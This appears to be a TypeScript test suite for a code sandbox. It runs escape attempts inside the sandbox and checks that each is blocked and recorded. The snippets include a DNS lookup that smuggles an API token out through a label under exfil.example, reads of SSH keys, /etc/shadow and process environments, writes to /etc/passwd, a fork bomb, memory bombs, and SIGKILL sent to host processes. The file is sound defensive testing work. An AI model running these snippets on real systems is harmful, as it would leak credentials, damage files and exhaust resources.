// Issue 14 item 4: every escape attempt is contained and reported. These run the sandbox for real.
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostProcessesWith, runFiles } from './testkit.js';

const HOST_CANARY = `host-canary-${randomBytes(6).toString('hex')}`;
let scratch = '';
let hostServer: Server;
let hostPort = 0;
let hostConnections = 0;

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'sigma-sbxescape-'));
  // Something only the host has: an environment variable, a file, a loopback service.
  process.env.SIGMA_ESCAPE_TEST_SECRET = HOST_CANARY;
  writeFileSync(join(scratch, 'id_rsa'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${HOST_CANARY}\n`);
  hostServer = createServer((s) => {
    hostConnections++;
    s.destroy();
  });
  await new Promise<void>((r) => hostServer.listen(0, '127.0.0.1', r));
  hostPort = (hostServer.address() as { port: number }).port;
});
afterAll(() => {
  delete process.env.SIGMA_ESCAPE_TEST_SECRET;
  hostServer.close();
  rmSync(scratch, { recursive: true, force: true });
});

// Generous timeouts: on a loaded 2-core machine one run can take several seconds; the limits under test are much shorter.
describe.concurrent('escape attempts are contained and reported', { timeout: 90_000 }, () => {
  it('network connect: host loopback, a raw public address and a unix socket all fail and are recorded as blocked', async () => {
    const r = await runFiles(
      {
        'net.py':
          'import socket\n' +
          `for host, port in [('127.0.0.1', ${hostPort}), ('93.184.216.34', 443), ('10.1.2.3', 12345)]:\n` +
          '    s = socket.socket()\n' +
          '    s.settimeout(2)\n' +
          '    try:\n' +
          "        s.connect((host, port)); s.sendall(b'hello from the sandbox'); print('connected', host, port)\n" +
          '    except OSError as e:\n' +
          "        print('failed', host, port, e.errno)\n" +
          '    s.close()\n' +
          'u = socket.socket(socket.AF_UNIX)\n' +
          'try:\n' +
          "    u.connect('/var/run/docker.sock')\n" +
          'except OSError as e:\n' +
          "    print('unix failed', e.errno)\n",
      },
      'net.py',
    );
    expect(r.outcome).toBe('COMPLETED');
    expect(hostConnections).toBe(0); // the host's own loopback service never heard from it
    const byPort = (p: number | null) => r.attemptedConnections.find((c) => c.port === p);
    expect(byPort(hostPort)).toMatchObject({ address: '127.0.0.1', blocked: true, reachedSink: false });
    expect(r.stdout.excerpt).toContain(`failed 127.0.0.1 ${hostPort}`);
    // A raw public address on a common port reaches the loopback sink (with `ip`), never the internet.
    expect(byPort(443)).toMatchObject({ address: '93.184.216.34', blocked: true });
    expect(byPort(12345)).toMatchObject({ address: '10.1.2.3', blocked: true, reachedSink: false });
    expect(r.attemptedConnections).toContainEqual(expect.objectContaining({ protocol: 'unix', address: '/var/run/docker.sock', blocked: true }));
    expect(r.description).toMatch(/tried to reach 127\.0\.0\.1:\d+ \(blocked\)/);
  });

  it('DNS: names are recorded (also one that smuggles an env value out in a label) and answered with a sinkhole', async () => {
    const r = await runFiles(
      {
        'dns.js':
          "const dns = require('dns');\n" +
          "const label = process.env.API_TOKEN.split('-').pop();\n" +
          "dns.lookup(`${label}.exfil.example`, (e, a) => console.log('exfil', e ? e.code : a));\n" +
          "dns.lookup('updates.example.net', (e, a) => console.log('plain', e ? e.code : a));\n",
      },
      'dns.js',
      { envNames: ['API_TOKEN'] },
    );
    expect(r.outcome).toBe('COMPLETED');
    const exfil = r.dnsQueries.find((q) => q.name.endsWith('.exfil.example') && q.type === 'A');
    expect(exfil, JSON.stringify(r.dnsQueries)).toMatchObject({ containsMock: ['API_TOKEN'] });
    expect(exfil!.answeredWith).toMatch(/^(198\.18|127\.128)\./);
    expect(r.dnsQueries).toContainEqual(expect.objectContaining({ name: 'updates.example.net', type: 'A', containsMock: [] }));
    expect(r.stdout.excerpt).toMatch(/plain (198\.18|127\.128)\./);
    expect(r.counts.mockValuesSent).toBe(1);
    expect(r.description).toMatch(/looked up 2 names .*mock value of API_TOKEN/);
  });

  it('writes outside the temporary directory fail and are listed; writes inside are listed as inside', async () => {
    const r = await runFiles(
      {
        'w.js':
          "const fs = require('fs');\n" +
          "for (const p of ['/code/w.js', '/etc/passwd', '/usr/bin/evil', '/evil', '/root/.bashrc', '/dev/evil', '/proc/sys/kernel/hostname', '/tmp/ok.txt', '/dev/shm/ok']) {\n" +
          "  try { fs.writeFileSync(p, 'x'); console.log('wrote', p); } catch (e) { console.log('denied', p, e.code); }\n" +
          '}\n',
      },
      'w.js',
    );
    expect(r.outcome).toBe('COMPLETED');
    expect(r.stdout.excerpt).not.toMatch(/wrote \/(code|etc|usr|evil|root|proc|dev\/evil)/);
    expect(r.writtenFiles).toEqual([
      { path: '/tmp/ok.txt', operation: 'write', insideTmp: true },
      { path: '/dev/shm/ok', operation: 'write', insideTmp: true },
    ]);
    expect(r.counts.writtenOutsideTmp).toBe(0);
    const denied = r.deniedOperations.map((d) => d.target);
    for (const p of ['/code/w.js', '/etc/passwd', '/usr/bin/evil', '/evil', '/root/.bashrc', '/dev/evil']) expect(denied, p).toContain(p);
  });

  it('reading ~/.ssh, host files and the host environment finds nothing of the host', async () => {
    const r = await runFiles(
      {
        'snoop.py':
          'import os, glob\n' +
          "print('env', sorted(os.environ.items()))\n" +
          `for p in ['/root/.ssh/id_rsa', os.path.expanduser('~/.ssh/id_rsa'), ${JSON.stringify(join(scratch, 'id_rsa'))}, '/etc/shadow', '/proc/1/environ', '/proc/self/environ']:\n` +
          '    try:\n' +
          "        print('read', p, open(p, 'rb').read()[:4000])\n" +
          '    except OSError as e:\n' +
          "        print('cannot', p, e.errno)\n" +
          "print('passwd', open('/etc/passwd').read())\n" +
          "print('homes', glob.glob('/home/*') + glob.glob('/root/*') + glob.glob('/work/*'))\n",
      },
      'snoop.py',
      { envNames: ['OPENAI_API_KEY'] },
    );
    expect(r.outcome).toBe('COMPLETED');
    const out = r.stdout.excerpt + r.stderr.excerpt;
    expect(out).not.toContain(HOST_CANARY);
    expect(out).toContain(`cannot ${join(scratch, 'id_rsa')} 2`);
    expect(out).toContain('cannot /root/.ssh/id_rsa 2');
    expect(out).toContain('cannot /etc/shadow 2');
    expect(out).toContain('homes []');
    expect(out).not.toContain('root:x:0:0:root:/root'); // the host's passwd line; the sandbox's own says /nonexistent
    // Exactly the sandbox's variables and the mock: nothing inherited from the host.
    const env = /env \[(.*)\]/.exec(r.stdout.excerpt)?.[1] ?? '';
    expect(env.match(/\('([A-Z_]+)'/g)?.map((m) => m.slice(2, -1))).toEqual(['HOME', 'LANG', 'OPENAI_API_KEY', 'PATH', 'PWD', 'TMPDIR', 'USER']);
  });

  it('fork bomb: the process cap holds on the host, the run ends, and nothing is left behind', async () => {
    const marker = `bomb${randomBytes(4).toString('hex')}`;
    let peak = 0;
    let polling = true;
    const poll = (async () => {
      while (polling) {
        peak = Math.max(peak, hostProcessesWith(`/code/${marker}.py`, '/usr/bin/python3\0').length);
        await new Promise((res) => setTimeout(res, 50));
      }
    })();
    const r = await runFiles(
      { [`${marker}.py`]: 'import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n' },
      `${marker}.py`,
      {
        timeoutMs: 5000,
        maxProcesses: 16,
      },
    );
    polling = false;
    await poll;
    expect(r.outcome).toBe('COMPLETED');
    expect(r.limitsHit).toContain('processes');
    expect(r.limitsHit).toContain('time');
    expect(r.deniedOperations).toContainEqual(expect.objectContaining({ operation: 'clone', error: 'EAGAIN' }));
    // Host view: never more Python processes than the cap (bwrap's two processes count against it too).
    expect(peak).toBeGreaterThan(1);
    expect(peak).toBeLessThanOrEqual(16);
    await new Promise((res) => setTimeout(res, 300));
    expect(hostProcessesWith(marker)).toEqual([]);
  });

  it('infinite loop: killed at the wall-clock limit and reported as timed out', async () => {
    const r = await runFiles({ 'spin.js': 'while (true) {}\n' }, 'spin.js', { timeoutMs: 1500 });
    expect(r).toMatchObject({ outcome: 'COMPLETED', timedOut: true, signal: 'SIGKILL', exitCode: null });
    expect(r.limitsHit).toContain('time');
    expect(r.durationMs).toBeGreaterThanOrEqual(1400);
    expect(r.durationMs).toBeLessThan(4000);
    expect(r.description).toMatch(/stopped at the 1\.5 s limit/);
  });

  it('huge output: kept up to the cap, counted in full, marked truncated', async () => {
    const r = await runFiles({ 'loud.js': "const s = 'x'.repeat(1 << 20);\nfor (let i = 0; i < 20; i++) process.stdout.write(s);\n" }, 'loud.js', {
      maxOutputBytes: 4096,
    });
    expect(r.outcome).toBe('COMPLETED');
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toMatchObject({ bytes: 20 << 20, truncated: true });
    expect(r.stdout.excerpt.length).toBe(4096);
    expect(r.limitsHit).toContain('output');
  });

  it('symlinks pointing out of the tree read only the sandbox: /etc/passwd is the synthetic one, ~/.ssh does not exist', async () => {
    const r = await runFiles(
      {
        'links.py':
          'import os\n' +
          "os.symlink('/etc/passwd', '/tmp/p')\n" +
          "os.symlink('/root/.ssh/id_rsa', '/tmp/k')\n" +
          `os.symlink(${JSON.stringify(join(scratch, 'id_rsa'))}, '/tmp/h')\n` +
          "print(open('/tmp/p').read())\n" +
          "for p in ['/tmp/k', '/tmp/h']:\n" +
          '    try:\n' +
          '        print(open(p).read())\n' +
          '    except OSError as e:\n' +
          "        print('missing', p, e.errno)\n",
      },
      'links.py',
    );
    expect(r.outcome).toBe('COMPLETED');
    expect(r.stdout.excerpt).toContain('sandbox:x:65534:65534:SIGMA sandbox:/tmp');
    expect(r.stdout.excerpt).toContain('missing /tmp/k 2');
    expect(r.stdout.excerpt).toContain('missing /tmp/h 2');
    expect(r.stdout.excerpt).not.toContain(HOST_CANARY);
    expect(r.writtenFiles.filter((f) => f.operation === 'link').map((f) => f.path)).toEqual(['/tmp/p', '/tmp/k', '/tmp/h']);
  });

  it('/proc snooping: only the sandbox’s own processes are visible, none of the host’s', async () => {
    const r = await runFiles(
      {
        'proc.py':
          'import os\n' +
          "pids = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())\n" +
          "print('pids', pids)\n" +
          `print('host pid visible', os.path.exists('/proc/${process.pid}/cmdline') and b'vitest' in open('/proc/${process.pid}/cmdline', 'rb').read())\n` +
          "print('init', open('/proc/1/cmdline', 'rb').read().split(b'\\0')[0])\n" +
          "print('init cmdline', open('/proc/1/cmdline', 'rb').read())\n" +
          "print('uid', open('/proc/self/status').read().split('Uid:')[1].split()[0])\n",
      },
      'proc.py',
    );
    expect(r.outcome).toBe('COMPLETED');
    const pids = JSON.parse(/pids (\[.*\])/.exec(r.stdout.excerpt)?.[1] ?? 'null') as number[];
    expect(pids.length).toBeGreaterThan(0);
    expect(Math.max(...pids)).toBeLessThan(10); // a fresh pid namespace: bwrap's init (1) and the code
    expect(r.stdout.excerpt).toContain('host pid visible False');
    expect(r.stdout.excerpt).toMatch(/init b'[^']*bwrap'/);
    // bwrap took its options on a descriptor: its command line names no host path and no bind.
    const initCmdline = /init cmdline (.*)/.exec(r.stdout.excerpt)?.[1] ?? '';
    expect(initCmdline).toContain('/code/proc.py');
    expect(initCmdline).not.toMatch(/sigma-sandbox-|--ro-bind|--setenv/);
    expect(r.stdout.excerpt).toContain('uid 65534');
  });

  it('killing the parent: signals reach only the sandbox’s own pid namespace; SIGMA and a host sentinel survive', async () => {
    const sentinel = spawn('sleep', ['30'], { stdio: 'ignore' });
    try {
      const r = await runFiles(
        {
          'kill.py':
            'import os, signal\n' +
            `for pid in [os.getppid(), 1, ${process.pid}, ${process.ppid}, ${sentinel.pid}, -1]:\n` +
            '    try:\n' +
            '        os.kill(pid, signal.SIGKILL)\n' +
            "        print('sent', pid)\n" +
            '    except OSError as e:\n' +
            "        print('refused', pid, e.errno)\n",
        },
        'kill.py',
      );
      expect(r.outcome).toBe('COMPLETED');
      expect(() => process.kill(sentinel.pid!, 0)).not.toThrow();
      expect(sentinel.exitCode).toBeNull();
      expect(r.signalsSent.map((s) => s.target)).toEqual(expect.arrayContaining(['1', String(process.pid), String(sentinel.pid), '-1']));
      expect(r.signalsSent.every((s) => s.signal === 'SIGKILL')).toBe(true);
      expect(r.description).toMatch(/sent signals to other processes/);
    } finally {
      sentinel.kill('SIGKILL');
    }
  });

  it('memory bombs stop at the cap (Node heap, Node buffers, Python)', async () => {
    const [heap, buffers, py] = await Promise.all([
      runFiles({ 'heap.js': 'const a = [];\nwhile (true) a.push(new Array(1e5).fill({ x: 1 }));\n' }, 'heap.js', { memoryMb: 64 }),
      runFiles({ 'buf.js': 'const a = [];\nwhile (true) a.push(Buffer.alloc(64 << 20, 1));\n' }, 'buf.js', { memoryMb: 64 }),
      runFiles({ 'mem.py': 'x = bytearray(2 * 1024 ** 3)\n' }, 'mem.py', { memoryMb: 64 }),
    ]);
    for (const r of [heap, buffers, py]) {
      expect(r.outcome, r.entry).toBe('COMPLETED');
      expect(r.timedOut, r.entry).toBe(false);
      expect(r.limitsHit, r.entry).toContain('memory');
      expect(r.exitCode === 0, r.entry).toBe(false);
    }
  });

  it('the temporary directory is capped in bytes and in files', async () => {
    const [bytes, files] = await Promise.all([
      runFiles({ 'fill.py': "try:\n    open('/tmp/big', 'wb').write(b'x' * (32 << 20))\nexcept OSError as e:\n    print('stopped', e.errno)\n" }, 'fill.py', {
        tmpBytes: 1 << 20,
      }),
      runFiles(
        {
          'many.py':
            "n = 0\ntry:\n    for i in range(5000):\n        open(f'/tmp/f{i}', 'w').close(); n += 1\nexcept OSError as e:\n    print('stopped', n, e.errno)\n",
        },
        'many.py',
        { tmpFiles: 100 },
      ),
    ]);
    expect(bytes.stdout.excerpt).toMatch(/stopped (27|28)\b/); // EFBIG (the file-size limit) or ENOSPC
    expect(files.stdout.excerpt).toMatch(/stopped 9\d 28\b/); // ENOSPC after ~100 inodes
    expect(files.limitsHit).toContain('tmp');
  });

  it('a flood of system calls stops at the recorder’s cap instead of filling the disk', async () => {
    const r = await runFiles(
      {
        'flood.py':
          "import os\nwhile True:\n    try:\n        os.open('/nonexistent/' + 'x' * 200, os.O_WRONLY | os.O_CREAT)\n    except OSError:\n        pass\n",
      },
      'flood.py',
      { maxTraceBytes: 256 * 1024, timeoutMs: 15_000 },
    );
    expect(r.outcome).toBe('COMPLETED');
    expect(r.limitsHit).toContain('trace');
    expect(r.timedOut).toBe(false);
    expect(r.recording.truncated).toBe(true);
    expect(r.deniedOperations[0]).toMatchObject({ operation: 'openat', error: 'ENOENT' });
  });

  it('privilege: mount, unshare, ptrace and setuid are refused and listed', async () => {
    const r = await runFiles(
      {
        'priv.py':
          'import ctypes, os\n' +
          'libc = ctypes.CDLL(None, use_errno=True)\n' +
          "print('unshare', libc.unshare(0x10000000), ctypes.get_errno())\n" + // CLONE_NEWUSER
          "print('mount', libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), ctypes.get_errno())\n" +
          "print('ptrace', libc.ptrace(16, 1, None, None), ctypes.get_errno())\n" + // PTRACE_ATTACH to init
          "try:\n    os.setuid(0)\nexcept OSError as e:\n    print('setuid', e.errno)\n",
      },
      'priv.py',
    );
    expect(r.outcome).toBe('COMPLETED');
    const ops = new Set(r.deniedOperations.map((d) => d.operation));
    for (const op of ['unshare', 'mount', 'ptrace', 'setuid']) expect(ops, op).toContain(op);
    expect(r.stdout.excerpt).not.toMatch(/^(unshare|mount|ptrace) 0 /m);
  });
});
